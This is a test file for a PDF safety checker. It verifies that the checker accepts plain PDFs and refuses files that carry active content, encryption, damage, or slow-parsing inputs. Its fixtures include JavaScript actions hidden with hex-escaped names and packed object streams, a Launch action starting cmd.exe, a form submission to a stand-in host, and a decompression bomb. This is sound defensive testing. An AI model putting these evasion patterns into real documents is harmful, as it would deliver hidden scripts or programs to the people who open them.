import { randomBytes } from 'node:crypto';
import { describe, expect, it } from 'vitest';
import { findPdfFault } from './check-pdf.ts';
import { packedStream, pdf } from './pdf.fixture.ts';

const script = '<< /S /JavaScript /JS (app.alert(1)) >>';

describe('a PDF', () => {
  it('is taken when it only says and shows', () => {
    expect(findPdfFault(pdf())).toBeNull();
    expect(findPdfFault(pdf(packedStream('/Type /ObjStm /N 1', '5 0 << /Title (JS, Launch) >>')))).toBeNull();
  });

  it('is taken whatever the bytes of its pictures look like', () => {
    const bytes = Buffer.concat([randomBytes(4_000), Buffer.from(' /JS (x) /Launch ')]);
    const picture = Buffer.concat([
      Buffer.from('<< /Subtype /Image >>\nstream\n'),
      bytes,
      Buffer.from('\nendstream'),
    ]);
    expect(findPdfFault(pdf(picture))).toBeNull();
  });

  it.each([
    ['runs a script', pdf(script)],
    ['runs a script that it names by numbers', pdf('<< /S /J#61vaScript /#4A#53 (app.alert(1)) >>')],
    ['hides a script among packed objects', pdf(packedStream('/Type /ObjStm /N 1', `5 0 ${script}`))],
    [
      'hides that its objects are packed, and names its script by numbers there',
      pdf(packedStream('/Type /#4FbjStm /N 1', '5 0 << /S /#4AavaScript /#4AS (app.alert(1)) >>')),
    ],
    ['starts a program', pdf('<< /S /Launch /F (cmd.exe) >>')],
    ['holds other files', pdf('<< /Names << /EmbeddedFiles 5 0 R >> >>')],
    ['sends a form', pdf('<< /S /SubmitForm /F (https://mal.example) >>')],
  ])('that %s is refused', (_, bytes) => {
    expect(findPdfFault(bytes)).toBe('active');
  });

  it('that is protected is refused: nobody could check it, nor read it aloud', () => {
    expect(findPdfFault(pdf('null', '/Encrypt 9 0 R'))).toBe('protected');
  });

  it.each([
    ['ends too early', pdf().subarray(0, 200)],
    ['has only its first bytes', Buffer.from('%PDF-1.7\n')],
    ['has packed objects that cannot be unfolded', pdf('<< /Type /ObjStm >>\nstream\nnot packed\nendstream')],
    ['unfolds without end', pdf(packedStream('/Type /ObjStm /N 1', Buffer.alloc(70 * 1024 * 1024)))],
  ])('that %s is refused', (_, bytes) => {
    expect(findPdfFault(bytes)).toBe('damaged');
  });

  it('is checked in a few seconds at most, whatever its 10 MB are', () => {
    const worst = [
      pdf(randomBytes(10_000_000)),
      pdf('<< /A (#41'.repeat(1_000_000)),
      pdf('#41'.repeat(3_300_000)),
      pdf(packedStream('/Type /ObjStm', '#41'.repeat(11_000_000))),
      pdf('>> stream\n'.repeat(1_000_000)),
      pdf('>>\nstream\nendstream '.repeat(480_000)),
    ];
    for (const bytes of worst) {
      const begun = performance.now();
      findPdfFault(bytes);
      expect(performance.now() - begun).toBeLessThan(3_000);
    }
  });
});
